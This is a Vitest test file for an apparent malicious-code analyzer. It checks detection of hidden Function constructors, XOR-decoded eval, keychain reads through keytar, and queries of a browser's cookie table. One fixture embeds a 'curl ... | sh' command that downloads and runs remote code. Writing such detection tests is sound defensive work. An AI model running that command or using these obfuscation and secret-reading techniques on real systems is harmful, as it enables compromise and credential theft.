import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

/** Function constructors reached through a prototype, per-character decoders, library secret stores. */

describe('JavaScript: constructors of async and generator functions', () => {
  it('Object.getPrototypeOf(async () => {}).constructor builds code like Function', async () => {
    const r = await factsOf(
      'javascript',
      `const Make = Object.getPrototypeOf(async function () {}).constructor;
await new Make('mod', "mod('node:child_process').execSync('curl -s http://files.update-relay.net/i | sh')")(require);
`,
    );
    const runs = ofKind(r, 'execute');
    expect(runs.some((e) => e.via === 'Function')).toBe(true);
    // The parameter called with a module name is read as require, so the nested command is seen.
    expect(runs.some((e) => e.via === 'sh' && e.code.taints.includes('download'))).toBe(true);
  });

  it('a parameter never called with a module name stays unknown', async () => {
    const r = await factsOf(
      'javascript',
      `const Gen = Reflect.getPrototypeOf(function* () {}).constructor;
const g = new Gen('a', 'b', 'yield a + b');
`,
    );
    expect(ofKind(r, 'execute').map((e) => e.via)).toEqual(['Function']);
  });

  it('characters decoded one call at a time carry the decoded taint into the joined text', async () => {
    const r = await factsOf(
      'javascript',
      `const K = 9;
const T = [106, 101, 104, 122, 103, 101, 108, 39, 101, 102, 110, 33, 40];
eval(Array.from(T, (c) => String.fromCharCode(c ^ K)).join(''));
eval(String.fromCharCode(40, 41));
`,
    );
    const [decoded, spelled] = ofKind(r, 'execute');
    expect(decoded?.code.taints).toContain('decoded');
    expect(spelled?.code.taints).not.toContain('decoded');
  });
});

describe('JavaScript: secret stores read through libraries', () => {
  it('keytar reads a keychain item, named when the service is known', async () => {
    const r = await factsOf(
      'javascript',
      `import keytar from 'keytar';
const a = await keytar.getPassword('notes-cli', 'me');
const b = await keytar.findCredentials(cfg.service);
`,
    );
    expect(ofKind(r, 'read').map((x) => [x.secret, x.target.text])).toEqual([
      ['keychain', 'keytar.getPassword notes-cli'],
      ['keychain', 'keytar.findCredentials ${service}'],
    ]);
  });

  it("a query of a browser's cookie table reads it; an app's own table does not", async () => {
    const r = await factsOf(
      'javascript',
      `const db = new Database(file);
const jar = db.prepare('SELECT host_key, encrypted_value FROM cookies').all();
const own = db.prepare('SELECT name, value FROM cookies WHERE origin = ?').all(o);
`,
    );
    expect(ofKind(r, 'read').map((x) => x.secret)).toEqual(['browser-data']);
  });
});
